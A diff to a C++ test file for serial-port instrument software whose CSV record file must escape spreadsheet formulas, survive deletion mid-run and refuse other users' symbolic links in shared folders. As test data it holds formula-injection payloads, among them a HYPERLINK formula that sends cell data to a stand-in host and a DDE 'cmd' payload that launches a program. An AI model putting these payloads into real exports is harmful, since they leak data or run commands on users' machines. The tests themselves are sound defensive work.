@@ -19,7 +19,10 @@
 #include "portlink/testing/SimulatedNative.h"
 
 #include <QCoreApplication>
+#include <QDir>
 #include <QElapsedTimer>
+#include <QFile>
+#include <QFileInfo>
 #include <QStandardPaths>
 #include <QTemporaryDir>
 
@@ -27,7 +30,9 @@
 
 #include <cstdio>
 #include <mutex>
+#include <sys/stat.h>
 #include <thread>
+#include <unistd.h>
 
 #include <netinet/in.h>
 #include <sys/socket.h>
@@ -110,6 +115,11 @@ public:
     void soundFailed(const QString &) override { }
     void deviceWarning(const QString &, const QString &message) override { add(message, true); }
     void cannotStart(omvara::run::StartFailure, const QString &message) override { cannotStartWith = message; }
+    bool goOnWithoutRecord(const QString &reason) override
+    {
+        recordQuestion = reason;
+        return startWithoutRecord;
+    }
 
     void clear()
     {
@@ -120,6 +130,7 @@ public:
         settled.clear();
         states.clear();
         cannotStartWith.clear();
+        recordQuestion.clear();
     }
     QStringList important() const
     {
@@ -143,6 +154,8 @@ public:
     std::vector<omvara::run::RunLine> settled;
     std::vector<RunState> states;
     QString cannotStartWith;
+    QString recordQuestion; // why the record file could not be opened at Start
+    bool startWithoutRecord = false; // the answer
 
 private:
     void add(const QString &text, bool important)
@@ -692,7 +705,7 @@ TEST_F(RunTest, everyLine_getsARowInTheRecordFile_readBackWithACsvParser)
         { "12.5 g<13>", "12.5", "typed" },
         { "12.5 g<13>", "12.5", "duplicate" },
         { "abc<13>", "", "error" },
-        { "---<13>", "", "no value" },
+        { "'---<13>", "", "no value" }, // a spreadsheet would take it for a formula
         { "7, \"x\"<9> g<13>", "7", "typed" },
         { QString(omvara::worker::WeightWorker::MaxLineLength, u'x'), "", "overflow" },
         { "half", "", "unsent" },
@@ -1074,4 +1087,202 @@ TEST_F(RunTest, ownFocus_valueNotTyped_butTheAnswerToTheWindowsRequestWaitsForTh
     EXPECT_EQ(view.settled[2].status, LineStatus::NotTyped);
     run->stop();
     ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
+}
+
+namespace {
+
+// The values of the record file at `path` (its value column, without the header).
+QStringList recordedValues(const QString &path)
+{
+    QStringList values;
+    const QList<QStringList> rows = parseCsv(fileBytes(path));
+    for (qsizetype i = 1; i < rows.size(); ++i)
+        values.append(rows[i].value(4));
+    return values;
+}
+
+} // namespace
+
+// What a spreadsheet opening the record would run is written as text: a cell
+// that begins with "=", "+", "-", "@", a tab or a carriage return gets a
+// leading "'", unless it is a plain number, which stays exactly as it is.
+// Every text cell of a row (received text, value, port, instrument) is treated
+// alike.
+TEST(RecordFile, cellsASpreadsheetWouldRun_getAQuote_plainNumbersStayExactly)
+{
+    struct Case
+    {
+        const char *cell;
+        const char *written;
+    };
+    const Case cases[] = {
+        { "=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"12.5\")" },
+        { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+        { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+        { "-2+3", "'-2+3" },
+        { "\t=1", "'\t=1" },
+        { "\r=1", "'\r=1" },
+        { "=", "'=" },
+        { "-", "'-" },
+        { "+.", "'+." },
+        { "-1.2.3", "'-1.2.3" },
+        { "-1,2.3", "'-1,2.3" },
+        { "+    12.345 g  <13><10>", "'+    12.345 g  <13><10>" },
+        { "-12.5", "-12.5" },
+        { "+3", "+3" },
+        { "-0,50", "-0,50" },
+        { "-.5", "-.5" },
+        { "+12.", "+12." },
+        { "12.5", "12.5" },
+        { "a=b", "a=b" },
+        { "'=1", "'=1" },
+        { "", "" },
+    };
+    for (const Case &c : cases) {
+        const QString cell = QString::fromUtf8(c.cell);
+        EXPECT_EQ(omvara::run::RecordFileOutput::cell(cell), QString::fromUtf8(c.written)) << c.cell;
+        // In a whole row, read back by a CSV parser: in the raw and the value column.
+        const omvara::run::RunLine line { 1, 1, QDateTime::currentDateTime(), cell, cell,
+            omvara::run::LineStatus::Printed, {} };
+        const QList<QStringList> rows
+            = parseCsv(omvara::run::RecordFileOutput::row(line, QStringLiteral("@port"), QStringLiteral("GENERIC")));
+        ASSERT_EQ(rows.size(), 1) << c.cell;
+        ASSERT_EQ(rows[0].size(), 6) << c.cell;
+        EXPECT_EQ(rows[0][1], QStringLiteral("'@port"));
+        EXPECT_EQ(rows[0][4], QString::fromUtf8(c.written)) << c.cell;
+    }
+}
+
+// The record file, then its whole folder, is removed during a run. Each time
+// the output notices before its next write, says so once, and writes to the
+// path again as soon as it can: no row goes into a removed file unseen, and
+// every row after the removal is in the file at the path, in order.
+TEST_F(RunTest, recordFileOrFolderRemovedDuringTheRun_toldOnce_rowsWrittenToThePathAgain)
+{
+    QTemporaryDir dir;
+    const QString folder = dir.filePath(QStringLiteral("records"));
+    ASSERT_TRUE(QDir().mkpath(folder));
+    const QString file = folder + QStringLiteral("/scale.csv");
+    Config config = Instrument::GENERIC.getDefaultConfig();
+    config.setRecordFile(file);
+    auto run = startRun(config.copyConfig(), true);
+    const QString gone = QStringLiteral("was removed, moved or replaced during the run");
+    const QString failed = QStringLiteral("Cannot write the record file");
+
+    port->feed(run_records::records(1, 30));
+    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(1, 30); }))
+        << qPrintable(recordedValues(file).join(u' '));
+    ASSERT_TRUE(QFile::remove(file));
+    port->feed(run_records::records(31, 60));
+    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(31, 60); }))
+        << qPrintable(recordedValues(file).join(u' '));
+    EXPECT_EQ(count(view.important(), gone), 1) << qPrintable(view.important().join(u'\n'));
+    EXPECT_EQ(parseCsv(fileBytes(file)).value(0), CsvHeader) << "a new file begins with its header";
+
+    ASSERT_TRUE(QDir(folder).removeRecursively());
+    port->feed(run_records::records(61, 90));
+    ASSERT_TRUE(runUntil([&] { return count(view.important(), failed) == 1; }))
+        << qPrintable(view.important().join(u'\n'));
+    ASSERT_TRUE(QDir().mkpath(folder));
+    port->feed(run_records::records(91, 100));
+    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(61, 100); }))
+        << qPrintable(recordedValues(file).join(u' '));
+    EXPECT_EQ(count(view.important(), gone), 2) << qPrintable(view.important().join(u'\n'));
+    EXPECT_EQ(count(view.important(), failed), 1) << qPrintable(view.important().join(u'\n'));
+    EXPECT_EQ(count(view.important(), QStringLiteral("is written again")), 1);
+    EXPECT_EQ(printedLines(), run_records::numbers(1, 100)) << "the run went on";
+    run->stop();
+    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
+}
+
+// A record file that cannot be opened at Start is a setting to mend: the run
+// asks before the port is opened, and either does not start or starts
+// without the record. In a folder that others than its owner may write, a
+// symbolic link at the end of the path is followed only when it is the
+// user's or root's own; the log always names the file written.
+TEST_F(RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_linksOfOthersInSharedFoldersRefused)
+{
+    ASSERT_EQ(::geteuid(), 0u) << "planting a link that belongs to another user takes root";
+    QTemporaryDir dir;
+    const QString victim = dir.filePath(QStringLiteral("private/victim.csv"));
+    ASSERT_TRUE(QDir().mkpath(dir.filePath(QStringLiteral("private"))));
+    {
+        QFile f(victim);
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
+        f.write("precious\n");
+    }
+    const auto folderWithLink = [&](const char *name, mode_t mode, uid_t owner) {
+        const QString folder = dir.filePath(QString::fromLatin1(name));
+        EXPECT_TRUE(QDir().mkpath(folder));
+        EXPECT_EQ(::chmod(QFile::encodeName(folder).constData(), mode), 0);
+        const QString link = folder + QStringLiteral("/records.csv");
+        EXPECT_TRUE(QFile::link(victim, link));
+        EXPECT_EQ(::lchown(QFile::encodeName(link).constData(), owner, owner), 0);
+        return link;
+    };
+    struct Case
+    {
+        const char *name;
+        QString path;
+        bool opens;
+    };
+    const Case cases[] = {
+        { "a folder that does not exist", dir.filePath(QStringLiteral("missing/records.csv")), false },
+        { "another user's link in a world-writable folder", folderWithLink("world", 0777, 65534), false },
+        { "another user's link in a group-writable folder", folderWithLink("group", 0775, 65534), false },
+        { "another user's link in the sticky /tmp way", folderWithLink("sticky", 01777, 65534), false },
+        { "the user's own link in a world-writable folder", folderWithLink("own", 0777, ::geteuid()), true },
+        { "another user's link in a folder only its owner writes", folderWithLink("closed", 0755, 65534), true },
+    };
+    for (const Case &c : cases) {
+        for (const bool goOn : { false, true }) {
+            SCOPED_TRACE(std::string(c.name) + (goOn ? ", start without the record" : ", cancel"));
+            if (c.opens && goOn)
+                continue;
+            const QByteArray before = fileBytes(victim);
+            view.clear();
+            view.startWithoutRecord = goOn;
+            Config config = Instrument::GENERIC.getDefaultConfig();
+            config.setRecordFile(c.path);
+            config.setPort(QStringLiteral("COM5"));
+            omvara::run::Run::Options options;
+            options.print = true;
+            options.printTo = printed;
+            options.sound = false;
+            auto run = std::make_unique<omvara::run::Run>(std::move(config), std::move(options), view, view);
+            const bool started = run->start();
+            if (c.opens) {
+                ASSERT_TRUE(started) << qPrintable(view.recordQuestion);
+                EXPECT_TRUE(view.recordQuestion.isEmpty()) << qPrintable(view.recordQuestion);
+                EXPECT_EQ(count(view.events(), QStringLiteral("recorded in ") + QFileInfo(victim).canonicalFilePath()), 1)
+                    << "the file written is named: " << qPrintable(view.events().join(u'\n'));
+                port->feed("7 g\r");
+                ASSERT_TRUE(runUntil([&] { return fileBytes(victim).contains(",7,printed"); }));
+            } else {
+                EXPECT_FALSE(view.recordQuestion.isEmpty());
+                EXPECT_TRUE(view.recordQuestion.contains(c.path)) << qPrintable(view.recordQuestion);
+                if (c.path.contains(QStringLiteral("missing")))
+                    EXPECT_TRUE(view.recordQuestion.contains(QStringLiteral("No such file or directory")))
+                        << qPrintable(view.recordQuestion);
+                else
+                    EXPECT_TRUE(view.recordQuestion.contains(QStringLiteral("symbolic link of another user")))
+                        << qPrintable(view.recordQuestion);
+                EXPECT_EQ(started, goOn);
+                if (!goOn) {
+                    EXPECT_EQ(run->state().end, RunState::End::NotStarted);
+                    EXPECT_FALSE(port->isOpen()) << "asked before the port opened";
+                    continue;
+                }
+                const RunState::Output *record = run->state().output(QStringLiteral("record"));
+                ASSERT_NE(record, nullptr);
+                EXPECT_EQ(record->status, RunState::Output::Status::Failed);
+                port->feed("8 g\r");
+                ASSERT_TRUE(runUntil([&] { return printedLines().contains(QStringLiteral("8")); }));
+                EXPECT_EQ(fileBytes(victim), before) << "the link was not followed";
+            }
+            run->stop();
+            ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
+            run->waitForOutputs();
+        }
+    }
 }
